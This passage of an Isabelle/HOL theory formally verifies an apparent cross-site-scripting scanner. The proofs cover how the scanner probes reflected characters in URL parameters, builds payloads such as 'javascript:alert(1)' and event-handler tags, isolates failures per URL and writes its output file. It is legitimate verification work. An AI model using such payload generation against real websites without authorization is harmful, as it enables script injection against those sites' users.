  have no_comment: "py ''*'' \<notin> allowed_chars colon_profile" "[0] \<notin> allowed_chars colon_profile"
    by (simp_all add: colon_profile_def chars_def py_def)
  have no_scripts: "\<not> allows_scripts colon_profile"
    by (simp add: colon_profile_def)
  have no_proto: "\<not> all_allowed colon_profile (py ''javascript:'')"
    by (simp add: all_allowed_def colon_profile_def chars_def py_def)
  from no_comment no_scripts no_proto C6_dynamic_generator_checks [OF colon_profile_member]
  have "allows_angles colon_profile
   \<and> py ''<'' \<in> allowed_chars colon_profile \<and> py ''>'' \<in> allowed_chars colon_profile
   \<and> py ''='' \<in> allowed_chars colon_profile
   \<and> (\<exists>tag\<in>set [py ''img'', py ''svg'', py ''iframe'']. \<exists>event\<in>set event_handlers.
         \<exists>ev\<in>set (event_mutations_get event).
           all_allowed colon_profile tag \<and> all_allowed colon_profile ev)"
    by blast
  with colon_profile_member show ?thesis by blast
qed

section \<open>Parameter analysis\<close>

lemma gather_test_single_char:
  "gather (map (test_single_char w u p) xs) = Inr (map (doubled_reflected w u p) xs)"
  by (induction xs) (simp_all add: test_single_char_eq)

lemma map_upds_map:
  "(m(xs [\<mapsto>] map f xs)) c = (if c \<in> set xs then Some (f c) else m c)"
proof (induction xs arbitrary: m)
  case Nil
  then show ?case by simp
next
  case (Cons x xs)
  have "(m(x # xs [\<mapsto>] map f (x # xs))) c = ((m(x \<mapsto> f x))(xs [\<mapsto>] map f xs)) c"
    by simp
  also have "\<dots> = (if c \<in> set xs then Some (f c) else (m(x \<mapsto> f x)) c)"
    by (rule Cons.IH)
  finally show ?case by simp
qed

lemma verdicts_verdicts: "verdicts w u p T (verdicts w u p S results) = verdicts w u p (S \<union> T) results"
  by (auto simp: verdicts_def)

lemma verdicts_empty: "verdicts w u p {} results = results"
  by (simp add: verdicts_def)

lemma sweep_batches_eq:
  "sweep_batches w u p bs results = Inr (verdicts w u p (\<Union> (set ` set bs)) results)"
proof (induction bs arbitrary: results)
  case Nil
  then show ?case by (simp add: verdicts_empty)
next
  case (Cons b bs)
  have "results(b [\<mapsto>] map (doubled_reflected w u p) b) = verdicts w u p (set b) results"
    by (rule ext) (simp add: map_upds_map verdicts_def)
  then show ?case
    by (simp add: gather_test_single_char Cons.IH verdicts_verdicts)
qed

lemma sweep_groups_eq:
  "sweep_groups w u p groups results = Inr (verdicts w u p (swept_chars groups) results)"
proof (induction groups arbitrary: results)
  case Nil
  then show ?case by (simp add: swept_chars_def verdicts_empty)
next
  case (Cons g groups)
  obtain group_name cs where g: "g = (group_name, cs)" by (cases g)
  have "swept_chars (g # groups) = set (chars cs) \<union> swept_chars groups"
    by (simp add: swept_chars_def g)
  then show ?case
    by (simp add: g sweep_batches_eq set_char_batches Cons.IH verdicts_verdicts)
qed

lemma verdicts_True: "{c. verdicts w u p S Map.empty c = Some True} = {c \<in> S. doubled_reflected w u p c}"
  by (auto simp: verdicts_def)

lemma verdicts_False: "{c. verdicts w u p S Map.empty c = Some False} = {c \<in> S. \<not> doubled_reflected w u p c}"
  by (auto simp: verdicts_def)

text \<open>
  What \<^verbatim>\<open>analyze_parameter\<close> computes. No answer of the server makes it raise: it
  raises only when its own session fails or the group \<^verbatim>\<open>basic\<close> is missing.
\<close>

lemma analyze_parameter_eq:
  "analyze_parameter w groups u p =
     (case analysis_session w u p of
        Some e \<Rightarrow> Inl e
      | None \<Rightarrow>
         (case map_of groups (py ''basic'') of
            None \<Rightarrow> Inl KeyError
          | Some basic \<Rightarrow>
              if sample_reflected w groups u p then Inr (swept_profile w groups u p)
              else Inr (no_reflection_profile u p)))"
proof (cases "analysis_session w u p")
  case (Some e)
  then show ?thesis by (simp add: analyze_parameter_def)
next
  case None
  show ?thesis
  proof (cases "map_of groups (py ''basic'')")
    case n: None
    with None show ?thesis by (simp add: analyze_parameter_def)
  next
    case (Some basic)
    have ex: "list_ex (\<lambda>r. r) (map (doubled_reflected w u p) (take (min 10 (length basic)) (chars basic)))
         = sample_reflected w groups u p"
      by (simp add: sample_reflected_def Some list_ex_iff)
    show ?thesis
      using None Some ex
      by (simp add: analyze_parameter_def gather_test_single_char sweep_groups_eq
          verdicts_True verdicts_False swept_profile_def)
  qed
qed

lemma analyze_parameter_param:
  "analyze_parameter w groups u p = Inr a \<Longrightarrow> param a = p"
  by (auto simp: analyze_parameter_eq swept_profile_def no_reflection_profile_def
      split: option.splits if_splits)

lemma analyze_parameter_Inl_iff:
  "analyze_parameter w groups u p = Inl e \<longleftrightarrow>
     analysis_session w u p = Some e
     \<or> (analysis_session w u p = None \<and> map_of groups (py ''basic'') = None \<and> e = KeyError)"
  by (auto simp: analyze_parameter_eq split: option.splits)

lemma default_basic:
  "map_of default_char_groups (py ''basic'')
     = Some (py ''abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'')"
  by (simp add: default_char_groups_def)

lemma echo_server_sample: "sample_reflected echo_server default_char_groups u p"
  unfolding sample_reflected_def default_basic
  by (simp add: echo_reflected chars_def py_def)

lemma silent_server_sample: "\<not> sample_reflected silent_server default_char_groups u p"
  unfolding sample_reflected_def default_basic
  by (simp add: silent_reflected chars_def py_def)

lemma echo_server_analysis: "analyze_parameter echo_server default_char_groups u p
    = Inr (swept_profile echo_server default_char_groups u p)"
  unfolding analyze_parameter_eq default_basic
  by (simp add: echo_server_sample echo_server_sessions)

lemma silent_server_analysis: "analyze_parameter silent_server default_char_groups u p = Inr (no_reflection_profile u p)"
  unfolding analyze_parameter_eq default_basic
  by (simp add: silent_server_sample silent_server_sessions)

text \<open>
  Claim C8. For every profile that \<^verbatim>\<open>analyze_parameter\<close> returns, the allowed and the
  blocked characters are disjoint. After a full sweep their union is the set of the
  characters probed, that is every character of every group, the allowed ones being
  those the server reflects and the blocked ones the others; when the sample is not
  reflected there is no sweep and both sets are empty.
\<close>

theorem C8_allowed_blocked_partition:
  assumes "analyze_parameter w groups u p = Inr a"
  shows "allowed_chars a \<inter> blocked_chars a = {}
         \<and> (sample_reflected w groups u p \<longrightarrow>
               allowed_chars a \<union> blocked_chars a = swept_chars groups
               \<and> allowed_chars a = {c \<in> swept_chars groups. doubled_reflected w u p c}
               \<and> blocked_chars a = {c \<in> swept_chars groups. \<not> doubled_reflected w u p c})
         \<and> (\<not> sample_reflected w groups u p \<longrightarrow>
               a = no_reflection_profile u p \<and> allowed_chars a \<union> blocked_chars a = {})"
proof (cases "sample_reflected w groups u p")
  case True
  with assms have "a = swept_profile w groups u p"
    by (auto simp: analyze_parameter_eq split: option.splits)
  with True show ?thesis by (auto simp: swept_profile_def)
next
  case False
  with assms have "a = no_reflection_profile u p"
    by (auto simp: analyze_parameter_eq split: option.splits)
  with False show ?thesis by (simp add: no_reflection_profile_def)
qed

theorem C8_allowed_blocked_partition_witness:
  "analyze_parameter echo_server default_char_groups (py ''http://h/?q=1'') (py ''q'')
     = Inr (swept_profile echo_server default_char_groups (py ''http://h/?q=1'') (py ''q''))
   \<and> allowed_chars (swept_profile echo_server default_char_groups (py ''http://h/?q=1'') (py ''q''))
       \<inter> blocked_chars (swept_profile echo_server default_char_groups (py ''http://h/?q=1'') (py ''q'')) = {}
   \<and> allowed_chars (swept_profile echo_server default_char_groups (py ''http://h/?q=1'') (py ''q''))
       \<union> blocked_chars (swept_profile echo_server default_char_groups (py ''http://h/?q=1'') (py ''q''))
       = swept_chars default_char_groups"
  using C8_allowed_blocked_partition [OF echo_server_analysis, of "py ''http://h/?q=1''" "py ''q''"] echo_server_sample echo_server_analysis
  by blast

lemma generate_payloads_no_reflection: "generate_payloads (no_reflection_profile u p) = set encoded_family"
proof -
  have pre: "predefined_updates (no_reflection_profile u p) = encoded_family"
    by (simp add: predefined_updates_def no_reflection_profile_def)
  have "\<not> all_allowed (no_reflection_profile u p) (py ''javascript:'')"
    by (simp add: no_reflection_profile_def all_allowed_def chars_def py_def)
  then have dyn: "dynamic_updates (no_reflection_profile u p) = []"
    by (simp add: dynamic_updates_def) (simp add: no_reflection_profile_def)
  have len: "\<And>x. length_filter (no_reflection_profile u p) x"
    by (simp add: length_filter_def no_reflection_profile_def)
  have fin: "\<And>x. final_filter (no_reflection_profile u p) x = (strip x \<noteq> [])"
    by (simp add: final_filter_def no_reflection_profile_def list_ex_iff)
  have "{x \<in> set encoded_family. strip x \<noteq> []} = set encoded_family"
    using encoded_family_not_blank by blast
  then show ?thesis
    by (simp add: generate_payloads_list pre dyn len fin)
qed

theorem C5_no_angle_bracket_payloads_witness:
  "\<not> allows_angles (no_reflection_profile (py ''http://h/?q=1'') (py ''q''))
   \<and> py ''javascript:alert(1)'' \<in> generate_payloads (no_reflection_profile (py ''http://h/?q=1'') (py ''q''))
   \<and> \<not> str_in (py ''<'') (py ''javascript:alert(1)'')
   \<and> 60 \<notin> set (py ''javascript:alert(1)'')"
proof -
  have 1: "\<not> allows_angles (no_reflection_profile (py ''http://h/?q=1'') (py ''q''))"
    by (simp add: no_reflection_profile_def)
  have 2: "py ''javascript:alert(1)'' \<in> generate_payloads (no_reflection_profile (py ''http://h/?q=1'') (py ''q''))"
    unfolding generate_payloads_no_reflection by (simp add: encoded_family_def)
  from 1 2 C5_no_angle_bracket_payloads [OF 1 2] show ?thesis by blast
qed

text \<open>
  Claim C10. For the profile of the early return (nothing allowed, nothing blocked, every
  flag false, no maximal length) \<^verbatim>\<open>generate_payloads\<close> returns exactly the six strings
  of the encoded family, so a set that is not empty; and \<^verbatim>\<open>analyze_parameter\<close> returns
  that profile whenever its session opens, the group \<^verbatim>\<open>basic\<close> exists and no character
  of the sample is reflected.
\<close>

theorem C10_no_reflection_profile_payloads:
  "generate_payloads (no_reflection_profile u p) = set encoded_family
   \<and> generate_payloads (no_reflection_profile u p) \<noteq> {}
   \<and> card (generate_payloads (no_reflection_profile u p)) = 6
   \<and> (analysis_session w u p = None \<and> map_of groups (py ''basic'') = Some basic
        \<and> \<not> sample_reflected w groups u p
       \<longrightarrow> analyze_parameter w groups u p = Inr (no_reflection_profile u p))"
proof -
  have "card (set encoded_family) = 6"
    using encoded_family_distinct by (simp add: distinct_card)
  moreover have "set encoded_family \<noteq> {}" using encoded_family_nonempty by simp
  moreover have "analysis_session w u p = None \<and> map_of groups (py ''basic'') = Some basic
        \<and> \<not> sample_reflected w groups u p
       \<longrightarrow> analyze_parameter w groups u p = Inr (no_reflection_profile u p)"
    by (simp add: analyze_parameter_eq)
  ultimately show ?thesis by (simp add: generate_payloads_no_reflection)
qed

theorem C10_no_reflection_profile_payloads_witness:
  "analyze_parameter silent_server default_char_groups (py ''http://h/?q=1'') (py ''q'')
     = Inr (no_reflection_profile (py ''http://h/?q=1'') (py ''q''))
   \<and> generate_payloads (no_reflection_profile (py ''http://h/?q=1'') (py ''q'')) = set encoded_family
   \<and> card (generate_payloads (no_reflection_profile (py ''http://h/?q=1'') (py ''q''))) = 6"
  using C10_no_reflection_profile_payloads [of "py ''http://h/?q=1''" "py ''q''" silent_server default_char_groups
      "py ''abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789''"]
    silent_server_sessions(1) [of "py ''http://h/?q=1''" "py ''q''"] default_basic
    silent_server_sample [of "py ''http://h/?q=1''" "py ''q''"]
  by blast

section \<open>The scan pipeline\<close>

lemma analyze_params_raise:
  "\<exists>p\<in>set ps. \<exists>e. analyze_parameter w groups u p = Inl e
     \<Longrightarrow> \<exists>e. analyze_params w groups u ps results = Inl e"
proof (induction ps arbitrary: results)
  case Nil
  then show ?case by simp
next
  case (Cons p ps)
  show ?case
  proof (cases "analyze_parameter w groups u p")
    case (Inl e)
    then show ?thesis by simp
  next
    case (Inr a)
    with Cons.prems have "\<exists>q\<in>set ps. \<exists>e. analyze_parameter w groups u q = Inl e" by auto
    from Cons.IH [OF this] Inr show ?thesis by simp
  qed
qed

lemma analyze_params_ok:
  "\<forall>p\<in>set ps. \<exists>a. analyze_parameter w groups u p = Inr a
     \<Longrightarrow> analyze_params w groups u ps results
         = Inr (\<lambda>q. if q \<in> set ps \<and> parameter_payloads w groups u q \<noteq> {}
                    then Some (parameter_payloads w groups u q) else results q)"
proof (induction ps arbitrary: results)
  case Nil
  then show ?case by simp
next
  case (Cons p ps)
  from Cons.prems obtain a where a: "analyze_parameter w groups u p = Inr a" by auto
  then have pa: "param a = p" by (rule analyze_parameter_param)
  from a have pp: "parameter_payloads w groups u p = generate_payloads a"
    by (simp add: parameter_payloads_def)
  from Cons.prems have rest: "\<forall>q\<in>set ps. \<exists>a. analyze_parameter w groups u q = Inr a" by simp
  let ?results1 = "if generate_payloads a \<noteq> {} then results(p \<mapsto> generate_payloads a) else results"
  have step: "analyze_params w groups u (p # ps) results = analyze_params w groups u ps ?results1"
    using a pa by simp
  have "(\<lambda>q. if q \<in> set ps \<and> parameter_payloads w groups u q \<noteq> {}
               then Some (parameter_payloads w groups u q) else ?results1 q)
      = (\<lambda>q. if q \<in> set (p # ps) \<and> parameter_payloads w groups u q \<noteq> {}
               then Some (parameter_payloads w groups u q) else results q)"
  proof (rule ext)
    fix q
    show "(if q \<in> set ps \<and> parameter_payloads w groups u q \<noteq> {}
               then Some (parameter_payloads w groups u q) else ?results1 q)
      = (if q \<in> set (p # ps) \<and> parameter_payloads w groups u q \<noteq> {}
               then Some (parameter_payloads w groups u q) else results q)"
      using pp by (cases "q = p") auto
  qed
  with step Cons.IH [OF rest, of ?results1] show ?case by simp
qed

lemma analyze_url_raise:
  assumes "\<exists>p\<in>set (extract_parameters u). \<exists>e. analyze_parameter w groups u p = Inl e"
  shows "analyze_url w groups extract_parameters u = Map.empty"
proof -
  from analyze_params_raise [OF assms]
  obtain e where "analyze_params w groups u (extract_parameters u) Map.empty = Inl e" by blast
  then show ?thesis by (simp add: analyze_url_def)
qed

lemma analyze_url_ok:
  assumes "\<forall>p\<in>set (extract_parameters u). \<exists>a. analyze_parameter w groups u p = Inr a"
  shows "analyze_url w groups extract_parameters u
     = (\<lambda>q. if q \<in> set (extract_parameters u) \<and> parameter_payloads w groups u q \<noteq> {}
            then Some (parameter_payloads w groups u q) else None)"
  by (auto simp: analyze_url_def analyze_params_ok [OF assms])

lemma collect_unique_payloads_eq:
  "collect_unique_payloads w groups extract_parameters urls unique_payloads
     = unique_payloads \<union> (\<Union>u\<in>set urls. \<Union> (ran (analyze_url w groups extract_parameters u)))"
  by (induction urls arbitrary: unique_payloads) auto

lemma session_fails_for_reflected: "doubled_reflected (session_fails_for u0 p0) u p c = (c = [])"
  by (auto simp: doubled_reflected_def session_fails_for_def)

lemma session_fails_for_sample: "\<not> sample_reflected (session_fails_for u0 p0) default_char_groups u p"
  unfolding sample_reflected_def default_basic
  by (simp add: session_fails_for_reflected chars_def py_def)

lemma session_fails_for_analysis:
  "analyze_parameter (session_fails_for u0 p0) default_char_groups u p
     = (if u = u0 \<and> p = p0 then Inl OSError else Inr (no_reflection_profile u p))"
  unfolding analyze_parameter_eq default_basic
  by (simp add: session_fails_for_sample) (simp add: session_fails_for_def)

lemma failing_url_discarded:
  "analyze_url (session_fails_for (py ''http://h/?a=1&b=2'') (py ''b'')) default_char_groups
      (\<lambda>u. [py ''a'', py ''b'']) (py ''http://h/?a=1&b=2'') = Map.empty"
  by (rule analyze_url_raise) (simp add: session_fails_for_analysis)

lemma lone_parameter_payloads:
  "analyze_url (session_fails_for (py ''http://h/?a=1&b=2'') (py ''b'')) default_char_groups
      (\<lambda>u. [py ''a'']) (py ''http://h/?a=1&b=2'') (py ''a'') = Some (set encoded_family)"
proof -
  have "py ''a'' \<noteq> py ''b''" by (simp add: py_def)
  then show ?thesis
    by (simp add: analyze_url_def session_fails_for_analysis generate_payloads_no_reflection encoded_family_nonempty
        no_reflection_profile_param)
qed

lemma other_url_payloads:
  "analyze_url (session_fails_for (py ''http://h/?a=1&b=2'') (py ''b'')) default_char_groups
      (\<lambda>u. [py ''a'', py ''b'']) (py ''http://g/?a=1&b=2'')
    = [py ''a'' \<mapsto> set encoded_family, py ''b'' \<mapsto> set encoded_family]"
proof -
  have "py ''http://g/?a=1&b=2'' \<noteq> py ''http://h/?a=1&b=2''" by (simp add: py_def)
  then show ?thesis
    by (simp add: analyze_url_def session_fails_for_analysis generate_payloads_no_reflection encoded_family_nonempty
        no_reflection_profile_param)
qed

theorem C4_counterexample:
  "analyze_parameter (session_fails_for (py ''http://h/?a=1&b=2'') (py ''b'')) default_char_groups
       (py ''http://h/?a=1&b=2'') (py ''a'')
     = Inr (no_reflection_profile (py ''http://h/?a=1&b=2'') (py ''a''))
   \<and> generate_payloads (no_reflection_profile (py ''http://h/?a=1&b=2'') (py ''a'')) = set encoded_family
   \<and> set encoded_family \<noteq> {}
   \<and> analyze_parameter (session_fails_for (py ''http://h/?a=1&b=2'') (py ''b'')) default_char_groups
       (py ''http://h/?a=1&b=2'') (py ''b'') = Inl OSError
   \<and> analyze_url (session_fails_for (py ''http://h/?a=1&b=2'') (py ''b'')) default_char_groups
       (\<lambda>u. [py ''a'']) (py ''http://h/?a=1&b=2'') (py ''a'') = Some (set encoded_family)
   \<and> analyze_url (session_fails_for (py ''http://h/?a=1&b=2'') (py ''b'')) default_char_groups
       (\<lambda>u. [py ''a'', py ''b'']) (py ''http://h/?a=1&b=2'') (py ''a'') = None"
proof -
  have ab: "py ''a'' \<noteq> py ''b''" by (simp add: py_def)
  have 1: "analyze_parameter (session_fails_for (py ''http://h/?a=1&b=2'') (py ''b'')) default_char_groups
       (py ''http://h/?a=1&b=2'') (py ''a'')
     = Inr (no_reflection_profile (py ''http://h/?a=1&b=2'') (py ''a''))"
    using ab by (simp add: session_fails_for_analysis)
  have 2: "analyze_parameter (session_fails_for (py ''http://h/?a=1&b=2'') (py ''b'')) default_char_groups
       (py ''http://h/?a=1&b=2'') (py ''b'') = Inl OSError"
    by (simp add: session_fails_for_analysis)
  have 3: "set encoded_family \<noteq> {}" using encoded_family_nonempty by simp
  from 1 2 3 generate_payloads_no_reflection failing_url_discarded lone_parameter_payloads show ?thesis by simp
qed

text \<open>
  Claim C4, as amended. Isolation is per URL. No answer of the server to a probe makes
  the analysis of a parameter raise: \<^verbatim>\<open>analyze_parameter\<close> raises only when its own
  session fails or the group \<^verbatim>\<open>basic\<close> is missing. When it raises for one parameter of
  a URL, \<^verbatim>\<open>analyze_url\<close> returns the empty dictionary for that URL, so the results of
  the URL's other parameters are not produced. When it raises for none, every parameter
  with payloads has them in the dictionary. The payloads collected over a list of URLs
  are the union of what each URL yields by itself, so a failure on one URL takes nothing
  from another.
\<close>

theorem C4_isolation_is_per_url:
  "(analyze_parameter w groups u p = Inl e \<longleftrightarrow>
      analysis_session w u p = Some e
      \<or> (analysis_session w u p = None \<and> map_of groups (py ''basic'') = None \<and> e = KeyError))
   \<and> ((\<exists>q\<in>set (extract_parameters u). \<exists>e'. analyze_parameter w groups u q = Inl e')
        \<longrightarrow> analyze_url w groups extract_parameters u = Map.empty)
   \<and> ((\<forall>q\<in>set (extract_parameters u). \<exists>a. analyze_parameter w groups u q = Inr a)
        \<longrightarrow> analyze_url w groups extract_parameters u
            = (\<lambda>q. if q \<in> set (extract_parameters u) \<and> parameter_payloads w groups u q \<noteq> {}
                   then Some (parameter_payloads w groups u q) else None))
   \<and> collect_unique_payloads w groups extract_parameters urls {}
       = (\<Union>u'\<in>set urls. \<Union> (ran (analyze_url w groups extract_parameters u')))"
  using analyze_parameter_Inl_iff [of w groups u p e]
    analyze_url_raise [of extract_parameters u w groups]
    analyze_url_ok [of extract_parameters u w groups]
    collect_unique_payloads_eq [of w groups extract_parameters urls "{}"]
  by simp

theorem C4_isolation_is_per_url_witness:
  "analyze_url (session_fails_for (py ''http://h/?a=1&b=2'') (py ''b'')) default_char_groups
       (\<lambda>u. [py ''a'', py ''b'']) (py ''http://h/?a=1&b=2'') = Map.empty
   \<and> analyze_url (session_fails_for (py ''http://h/?a=1&b=2'') (py ''b'')) default_char_groups
       (\<lambda>u. [py ''a'', py ''b'']) (py ''http://g/?a=1&b=2'')
       = [py ''a'' \<mapsto> set encoded_family, py ''b'' \<mapsto> set encoded_family]
   \<and> collect_unique_payloads (session_fails_for (py ''http://h/?a=1&b=2'') (py ''b'')) default_char_groups
       (\<lambda>u. [py ''a'', py ''b'']) [py ''http://h/?a=1&b=2'', py ''http://g/?a=1&b=2''] {}
       = set encoded_family"
proof -
  let ?w = "session_fails_for (py ''http://h/?a=1&b=2'') (py ''b'')"
  let ?ex = "\<lambda>u::pystr. [py ''a'', py ''b'']"
  have raise: "\<exists>q\<in>set (?ex (py ''http://h/?a=1&b=2'')). \<exists>e'.
      analyze_parameter ?w default_char_groups (py ''http://h/?a=1&b=2'') q = Inl e'"
    by (simp add: session_fails_for_analysis)
  from C4_isolation_is_per_url [of ?w default_char_groups "py ''http://h/?a=1&b=2''" "py ''b''" OSError ?ex
      "[py ''http://h/?a=1&b=2'', py ''http://g/?a=1&b=2'']"] raise
  have 1: "analyze_url ?w default_char_groups ?ex (py ''http://h/?a=1&b=2'') = Map.empty"
    and 3: "collect_unique_payloads ?w default_char_groups ?ex
        [py ''http://h/?a=1&b=2'', py ''http://g/?a=1&b=2''] {}
       = (\<Union>u'\<in>set [py ''http://h/?a=1&b=2'', py ''http://g/?a=1&b=2''].
            \<Union> (ran (analyze_url ?w default_char_groups ?ex u')))"
    by blast+
  have ab: "py ''a'' \<noteq> py ''b''" by (simp add: py_def)
  have "ran [py ''a'' \<mapsto> set encoded_family, py ''b'' \<mapsto> set encoded_family] = {set encoded_family}"
    using ab by (auto simp: ran_def)
  with 1 3 other_url_payloads show ?thesis by simp
qed

section \<open>The output file\<close>

lemma universal_newlines_id: "13 \<notin> set s \<Longrightarrow> universal_newlines s = s"
  by (induction s rule: universal_newlines.induct) auto

lemma readlines_line: "10 \<notin> set s \<Longrightarrow> readlines (s @ 10 # rest) = (s @ [10]) # readlines rest"
  by (induction s) auto

lemma readlines_lines:
  "\<forall>s\<in>set xs. 10 \<notin> set s \<Longrightarrow> readlines (concat (map (\<lambda>s. s @ [10]) xs)) = map (\<lambda>s. s @ [10]) xs"
  by (induction xs) (simp_all add: readlines_line)

lemma written_text_clean:
  assumes "finite U" and "\<forall>s\<in>U. clean s"
  shows "written_text U = concat (map (\<lambda>s. s @ [10]) (sorted_list_of_set U))"
proof -
  have "\<forall>s\<in>set (sorted_list_of_set U). clean s" using assms by simp
  then have "map (\<lambda>payload. if stripped_payload payload \<noteq> [] then stripped_payload payload @ [10] else [])
               (sorted_list_of_set U)
           = map (\<lambda>s. s @ [10]) (sorted_list_of_set U)"
    by (intro map_cong refl) (auto simp: stripped_payload_clean clean_def)
  then show ?thesis unfolding written_text_def by (rule arg_cong)
qed

lemma output_file_clean:
  assumes "finite U" and "\<forall>s\<in>U. clean s"
  shows "output_file U = concat (map (\<lambda>s. s @ [10]) (sorted_list_of_set U))"
    and "readlines (output_file U) = map (\<lambda>s. s @ [10]) (sorted_list_of_set U)"
proof -
  let ?xs = "sorted_list_of_set U"
  let ?text = "concat (map (\<lambda>s. s @ [10]) ?xs)"
  have cl: "\<forall>s\<in>set ?xs. clean s" using assms by simp
  have w: "written_text U = ?text" using assms by (rule written_text_clean)
  have "13 \<notin> set ?text" using cl by (auto simp: clean_def)
  then have un: "universal_newlines ?text = ?text" by (rule universal_newlines_id)
  have rl: "readlines ?text = map (\<lambda>s. s @ [10]) ?xs"
    using cl by (intro readlines_lines) (simp add: clean_def)
  have "filter (\<lambda>line. strip line \<noteq> []) (map (\<lambda>s. s @ [10]) ?xs) = map (\<lambda>s. s @ [10]) ?xs"
    using cl by (auto simp: filter_id_conv strip_line_clean clean_def)
  with w un rl show o: "output_file U = ?text"
    by (simp add: output_file_def remove_empty_lines_def)
  from o rl show "readlines (output_file U) = map (\<lambda>s. s @ [10]) ?xs" by simp
qed

text \<open>
  The file for an arbitrary set of payloads: the write loop leaves one line for each
  payload of which something is left after stripping, and the pass that removes empty
  lines finds none.
\<close>

lemma concat_lines:
  "concat (map (\<lambda>payload. if f payload \<noteq> [] then f payload @ [10] else []) xs)
     = concat (map (\<lambda>s. s @ [10]) (filter (\<lambda>s. s \<noteq> []) (map f xs)))"
  by (induction xs) simp_all

lemma remove_empty_lines_clean:
  assumes cl: "\<forall>s\<in>set ys. clean s"
  shows "remove_empty_lines (concat (map (\<lambda>s. s @ [10]) ys)) = concat (map (\<lambda>s. s @ [10]) ys)"
    and "readlines (concat (map (\<lambda>s. s @ [10]) ys)) = map (\<lambda>s. s @ [10]) ys"
proof -
  let ?text = "concat (map (\<lambda>s. s @ [10]) ys)"
  have "13 \<notin> set ?text" using cl by (auto simp: clean_def)
  then have un: "universal_newlines ?text = ?text" by (rule universal_newlines_id)
  show rl: "readlines ?text = map (\<lambda>s. s @ [10]) ys"
    using cl by (intro readlines_lines) (simp add: clean_def)
  have "filter (\<lambda>line. strip line \<noteq> []) (map (\<lambda>s. s @ [10]) ys) = map (\<lambda>s. s @ [10]) ys"
    using cl by (auto simp: filter_id_conv strip_line_clean clean_def)
  with un rl show "remove_empty_lines ?text = ?text"
    by (simp add: remove_empty_lines_def)
qed

lemma output_file_lines:
  "output_file U = concat (map (\<lambda>s. s @ [10])
       (filter (\<lambda>s. s \<noteq> []) (map stripped_payload (sorted_list_of_set U))))"
  "readlines (output_file U) = map (\<lambda>s. s @ [10])
       (filter (\<lambda>s. s \<noteq> []) (map stripped_payload (sorted_list_of_set U)))"
proof -
  let ?ys = "filter (\<lambda>s. s \<noteq> []) (map stripped_payload (sorted_list_of_set U))"
  have w: "written_text U = concat (map (\<lambda>s. s @ [10]) ?ys)"
    unfolding written_text_def by (rule concat_lines)
  have cl: "\<forall>s\<in>set ?ys. clean s" by (auto intro: clean_stripped_payload)
  from remove_empty_lines_clean(1) [OF cl] w
  show o: "output_file U = concat (map (\<lambda>s. s @ [10]) ?ys)" by (simp add: output_file_def)
  from remove_empty_lines_clean(2) [OF cl] o
  show "readlines (output_file U) = map (\<lambda>s. s @ [10]) ?ys" by simp
qed

lemma output_file_line:
  assumes "line \<in> set (readlines (output_file U))"
  shows "strip line \<noteq> [] \<and> (\<exists>s. line = s @ [10] \<and> s \<noteq> [] \<and> 10 \<notin> set s \<and> 13 \<notin> set s \<and> strip s = s)"
proof -
  from assms obtain s where l: "line = s @ [10]" and s: "s \<noteq> []"
    and "s \<in> set (map stripped_payload (sorted_list_of_set U))"
    unfolding output_file_lines(2) by auto
  then obtain payload where "s = stripped_payload payload" by auto
  with s have c: "clean s" by (simp add: clean_stripped_payload)
  then have "strip line = s" unfolding l by (rule strip_line_clean)
  moreover from c have "strip s = s" by (rule strip_clean)
  moreover from c have "10 \<notin> set s" "13 \<notin> set s" by (simp_all add: clean_def)
  ultimately show ?thesis using l s by simp
qed

lemma output_file_run:
  assumes fin: "finite R" and cl: "\<forall>payload\<in>R. clean payload"
  shows "\<forall>payload\<in>R. strip (filter (\<lambda>c. c \<noteq> 10 \<and> c \<noteq> 13) payload) = payload \<and> payload \<noteq> []"
    and "readlines (output_file R) = map (\<lambda>payload. payload @ [10]) (sorted_list_of_set R)"
    and "output_file R = concat (map (\<lambda>payload. payload @ [10]) (sorted_list_of_set R))"
    and "distinct (readlines (output_file R))"
    and "length (readlines (output_file R)) = card R"
proof -
  show 1: "\<forall>payload\<in>R. strip (filter (\<lambda>c. c \<noteq> 10 \<and> c \<noteq> 13) payload) = payload \<and> payload \<noteq> []"
  proof
    fix payload assume "payload \<in> R"
    with cl have c: "clean payload" by blast
    then have "stripped_payload payload = payload" by (rule stripped_payload_clean)
    with c show "strip (filter (\<lambda>c. c \<noteq> 10 \<and> c \<noteq> 13) payload) = payload \<and> payload \<noteq> []"
      by (simp add: stripped_payload_eq clean_def)
  qed
  from fin 1 have "\<forall>payload\<in>set (sorted_list_of_set R). stripped_payload payload = payload \<and> payload \<noteq> []"
    by (simp add: stripped_payload_eq)
  then have "map stripped_payload (sorted_list_of_set R) = sorted_list_of_set R"
    and "filter (\<lambda>s. s \<noteq> []) (sorted_list_of_set R) = sorted_list_of_set R"
    by (simp_all add: map_idI filter_id_conv)
  then have ys: "filter (\<lambda>s. s \<noteq> []) (map stripped_payload (sorted_list_of_set R)) = sorted_list_of_set R"
    by simp
  show 2: "readlines (output_file R) = map (\<lambda>payload. payload @ [10]) (sorted_list_of_set R)"
    unfolding output_file_lines(2) ys ..
  show "output_file R = concat (map (\<lambda>payload. payload @ [10]) (sorted_list_of_set R))"
    unfolding output_file_lines(1) ys ..
  have "inj_on (\<lambda>payload. payload @ [10]) (set (sorted_list_of_set R))" by (simp add: inj_on_def)
  then show "distinct (readlines (output_file R))"
    unfolding 2 by (simp add: distinct_map)
  from fin show "length (readlines (output_file R)) = card R"
    unfolding 2 by simp
qed

text \<open>
  The loop sorts the payloads before it strips them, so the order and the uniqueness of
  the lines are those of the payloads only when stripping changes none of them, as is
  the case for the payloads of a run (\<open>collect_unique_payloads_clean\<close> below). On a
  set with other strings the lines follow the order of the unstripped payloads, and two
  payloads that differ only in what is stripped give the same line twice.
\<close>

lemma output_file_order_example:
  "output_file {[32, 98], [97], [97, 10]} = [98, 10, 97, 10, 97, 10]"
proof -
  have "sorted_list_of_set {[32, 98], [97], [97, 10::nat]} = [[32, 98], [97], [97, 10]]"
    by (simp add: sorted_list_of_set_sort_remdups)
  then show ?thesis
    unfolding output_file_lines(1) by (simp add: stripped_payload_def strip_def isspace_def)
qed

lemma plain_tags:
  "\<forall>tag\<in>set base_tags. plain tag \<and> (\<forall>mutated_tag\<in>set (tag_mutations_get tag). plain mutated_tag)"
  by (simp add: base_tags_def tag_mutations_get_def plain_def py_def)

lemma plain_funcs: "\<forall>func\<in>set js_functions. plain func"
  by (simp add: js_functions_def plain_def py_def)

lemma plain_events:
